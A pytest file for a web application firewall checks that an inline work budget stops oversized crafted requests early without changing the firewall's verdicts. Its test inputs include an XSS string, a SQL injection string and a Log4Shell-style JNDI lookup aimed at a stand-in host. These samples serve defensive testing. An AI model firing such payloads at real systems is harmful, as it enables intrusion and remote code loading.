"""``Waf.inspect(work_limit=...)``: the gateway's inline budget never changes a verdict.

The gateway inspects small requests on its event loop under a work limit
(ramparts.gateway.offload.INLINE_WORK); a request needing more raises
WorkLimitReached before the expensive value is scanned and is inspected again,
without the limit, in a worker thread.
"""

from __future__ import annotations

import pytest

from ramparts.gateway.offload import INLINE_WORK
from ramparts.gateway.waf.engine import Waf, WorkLimitReached
from tests.gateway.waf.waf_requests import json_request, query_request

WAF = Waf()


@pytest.mark.parametrize(
    "request_",
    [json_request("{%" * 3000), query_request("{%" * 3000), json_request(["'\"<>" * 600])],
)
def test_crafted_text_over_the_limit_stops_before_it_is_scanned(request_: object) -> None:
    with pytest.raises(WorkLimitReached):
        WAF.inspect(request_, INLINE_WORK)  # type: ignore[arg-type]
    assert WAF.inspect(request_).cost > INLINE_WORK  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "request_",
    [
        json_request("<script>alert(1)</script>"),
        query_request("1' OR '1'='1"),
        json_request("a perfectly ordinary sentence, with words. " * 200),
        json_request({"a": "{%" * 400, "b": "${jndi:ldap://x.example/a}"}),
    ],
)
def test_within_the_limit_the_verdict_is_the_same(request_: object) -> None:
    limited = WAF.inspect(request_, INLINE_WORK)  # type: ignore[arg-type]
    full = Waf().inspect(request_)  # type: ignore[arg-type]
    assert (limited.score, limited.blocked, sorted(m.rule for m in limited.matches)) == (
        full.score,
        full.blocked,
        sorted(m.rule for m in full.matches),
    )
